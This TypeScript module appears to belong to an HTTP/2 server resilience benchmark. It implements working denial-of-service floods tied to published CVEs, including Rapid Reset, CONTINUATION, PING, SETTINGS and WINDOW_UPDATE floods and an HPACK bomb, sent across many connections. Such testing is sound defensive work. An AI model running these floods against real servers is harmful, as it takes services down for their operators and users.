import { FLAG, FRAME, frame, settingsFrame } from '../../../bench/load/frames.ts';
import { type Attack, type Budget, hasTime, type Target } from '../attack.ts';
import { ACQUIRE } from '../paths.ts';
import { headersFrame, literal, resetFrame, windowUpdate } from '../raw-http2.ts';

const NOTHING: Buffer = Buffer.alloc(0);
const BATCH = 100;

/** Sends what `make` makes, a hundred at a time, on one connection after the other until the count or the budget is used up. */
async function flood(
  target: Target,
  budget: Budget,
  count: number,
  make: (n: number) => Buffer,
  { first = NOTHING, deaf = false, connectionsMax = 50 } = {},
): Promise<string> {
  let sent = 0;
  let connections = 0;
  let goAway: number | null = null;
  while (sent < count && connections < connectionsMax && hasTime(budget)) {
    const connection = (await target.connect()).begin();
    connections += 1;
    if (deaf) connection.deafen();
    await connection.send(first);
    for (let n = 0; sent < count && hasTime(budget); n += BATCH) {
      const batch = Array.from({ length: BATCH }, (_, place) => make(n + place));
      sent += BATCH;
      if (!(await connection.send(...batch))) break;
    }
    goAway ??= connection.goAway;
    connection.close();
  }
  const end = goAway === null ? '' : `, GOAWAY(${goAway})`;
  return `${sent} frames, ${connections} connection${connections === 1 ? '' : 's'}${end}`;
}

const idOf = (n: number) => 2 * n + 1;

/** CVE-2023-44487: each call is cancelled as soon as it is made. */
export const rapidReset: Attack = {
  name: 'rapid reset',
  count: 200_000,
  run: (target, budget, count) => flood(target, budget, count, (n) => Buffer.concat([headersFrame(idOf(n), ACQUIRE), resetFrame(idOf(n))])),
};

/** CVE-2024-27983, CVE-2024-28182: headers that never end. */
export const continuationFlood: Attack = {
  name: 'CONTINUATION flood',
  count: 100_000,
  run: (target, budget, count) => {
    const more = frame(FRAME.continuation, 0, 1, literal('x-more', 'm'.repeat(1_000)));
    return flood(target, budget, count, () => more, { first: headersFrame(1, ACQUIRE, { flags: 0 }) });
  },
};

/** CVE-2019-9512. */
export const pingFlood: Attack = {
  name: 'PING flood',
  count: 3_000_000,
  run: (target, budget, count) => flood(target, budget, count, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8))),
};

/** CVE-2019-9512, by one who does not read the answers. */
export const deafPingFlood: Attack = {
  name: 'PING flood, unread',
  count: 1_000_000,
  run: (target, budget, count) => flood(target, budget, count, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8)), { deaf: true }),
};

/** CVE-2019-9515. */
export const settingsFlood: Attack = {
  name: 'SETTINGS flood',
  count: 2_000_000,
  run: (target, budget, count) => flood(target, budget, count, (n) => settingsFrame([[4, 65_535 + (n % 2)]])),
};

/** CVE-2026-21714: more window than there can be, on the connection and on streams. */
export const windowOverflow: Attack = {
  name: 'WINDOW_UPDATE overflow',
  count: 20_000,
  run: (target, budget, count) =>
    flood(target, budget, count, (n) => windowUpdate(n % 3 === 0 ? 0 : 1, n % 5 === 0 ? 0 : undefined), {
      first: headersFrame(1, ACQUIRE),
      connectionsMax: 500,
    }),
};

/** CVE-2019-9518: frames that say nothing. */
export const emptyFrames: Attack = {
  name: 'empty DATA frames',
  count: 1_000_000,
  run: (target, budget, count) => flood(target, budget, count, () => frame(FRAME.data, 0, 1, NOTHING), { first: headersFrame(1, ACQUIRE) }),
};

/** One large header in HPACK's table, named thousands of times with a byte each. */
export const hpackBomb: Attack = {
  name: 'HPACK bomb',
  count: 20_000,
  run: (target, budget, count) => {
    const indexed = literal('x-bomb', 'b'.repeat(4_000));
    indexed[0] = 0x40;
    const again = Buffer.alloc(8_000, 0x80 | 62);
    const bomb = (id: number) => headersFrame(id, ACQUIRE, { flags: FLAG.endHeaders | FLAG.endStream, more: [indexed, again] });
    return flood(target, budget, count, (n) => bomb(idOf(n)));
  },
};
